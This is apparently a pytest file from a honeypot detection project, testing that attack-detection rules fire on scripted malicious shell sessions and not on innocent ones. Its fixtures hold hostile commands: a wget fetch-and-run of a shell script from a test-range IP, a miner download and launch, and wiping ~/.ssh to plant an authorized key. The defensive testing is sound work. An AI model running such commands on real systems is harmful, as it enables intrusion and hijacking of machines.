# SPDX-License-Identifier: AGPL-3.0-or-later
"""Precision of the rules with steps: whole sessions, innocent ones among them."""

from __future__ import annotations

import gzip
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from decnet_ttp.attack import load_catalogue
from decnet_ttp.cli.corpus import Row, events_of
from decnet_ttp.core.source_kinds import SourceKind
from decnet_ttp.matching import RulePack
from decnet_ttp.rule_store.loader import load_pack
from decnet_ttp.rule_store.vocabulary import Vocabulary
from precision.corpora import ROOT

IDS = frozenset(f"R{number:04}" for number in range(150, 160))
LOGGED_IN = [{"username": "root", "result": "success"}]


@pytest.fixture(scope="module")
def pack() -> RulePack:
    loaded = load_pack([ROOT / "rules" / "ttp"], Vocabulary(load_catalogue()), with_examples=False)
    rules = [each.message for each in loaded.rules if each.message.rule_id in IDS]
    assert {rule.rule_id for rule in rules} == IDS
    return RulePack.compile(rules)


def fired(pack: RulePack, payload: dict[str, Any]) -> set[str]:
    events = events_of(Row("s", SourceKind.SESSION, payload), frozenset(SourceKind))
    return {result.rule.rule_id for result in pack.timelines(events).fired()}


def rows(path: Path) -> Iterator[dict[str, Any]]:
    with gzip.open(path) as lines:
        for line in lines:
            yield orjson.loads(line)


SESSIONS: dict[str, tuple[list[str], set[str]]] = {
    "a bot with a shell script": (
        ["cd /tmp || cd /var/run", "wget http://198.51.100.7/b.sh; sh b.sh; rm -rf b.sh"],
        {"R0150", "R0155"},
    ),
    "a miner unpacked": (
        ["curl -o m.tgz http://198.51.100.7/m.tgz", "tar xzf m.tgz", "./m/xmrig -o pool:3333"],
        {"R0150"},
    ),
    "a key and a look around": (
        [
            "rm -rf ~/.ssh; mkdir ~/.ssh; echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys",
            "uname -a",
            "free -m",
            "w",
        ],
        {"R0153", "R0154"},
    ),
    "an administrator at work": (
        ["ls -l /var/log", "tail -n 50 /var/log/syslog", "systemctl status ssh", "df -h", "exit"],
        set(),
    ),
    "an upgrade": (
        ["apt-get update", "apt-get install -y curl", "curl --version", "systemctl restart nginx"],
        set(),
    ),
    "a build": (["git pull", "make", "sh configure", "rm -f build.log"], set()),
    "own key added": (["echo 'ssh-ed25519 AAAA me' >> ~/.ssh/authorized_keys", "exit"], set()),
    "a back-up fetched": (["scp backup@192.0.2.5:/srv/b.tgz .", "tar tzf b.tgz"], set()),
}


@pytest.mark.parametrize("name", SESSIONS)
def test_a_session_fires_exactly_its_rules(pack: RulePack, name: str) -> None:
    commands, expected = SESSIONS[name]
    assert fired(pack, {"auth_attempts": LOGGED_IN, "commands": commands}) == expected


@pytest.mark.shared
def test_innocent_command_lines_after_a_log_in_hardly_fire(
    pack: RulePack, shared_dir: Path
) -> None:
    count = wrong = 0
    for corpus in ("cheatsheets", "debian_maintainer_scripts", "nl2bash"):
        for row in rows(shared_dir / "data" / "benign" / f"{corpus}.jsonl.gz"):
            payload = row["payload"]
            commands = payload.get("commands") or [payload["command_text"]]
            count += 1
            wrong += bool(fired(pack, {"auth_attempts": LOGGED_IN, "commands": commands}))
    assert count > 7_000
    assert wrong / count <= 0.001


@pytest.mark.shared
def test_innocent_requests_fire_nothing_however_many_are_one_session(
    pack: RulePack, shared_dir: Path
) -> None:
    path = shared_dir / "data" / "http" / "access_log_benign.jsonl.gz"
    requests = [row["payload"] for row in rows(path)]
    assert len(requests) > 5_000
    for start in range(0, len(requests), 500):
        assert fired(pack, {"http_requests": requests[start : start + 500]}) == set()


@pytest.mark.shared
def test_labelled_sessions_are_only_given_tactics_that_experts_saw(
    pack: RulePack, shared_dir: Path
) -> None:
    """A look around is discovery, a key persistence, and a tool that is run and removed is seen."""
    tactics = {"R0153": {"TA0007"}, "R0154": {"TA0003"}, "R0155": {"TA0002", "TA0005"}}
    right = wrong = 0
    for row in rows(shared_dir / "data" / "labelled" / "logprecis_sessions.jsonl.gz"):
        for rule_id in fired(pack, row["payload"]):
            agreed = bool(tactics[rule_id] & set(row["tactics"]))
            right += agreed
            wrong += not agreed
    assert right >= 50
    assert right / (right + wrong) >= 0.95
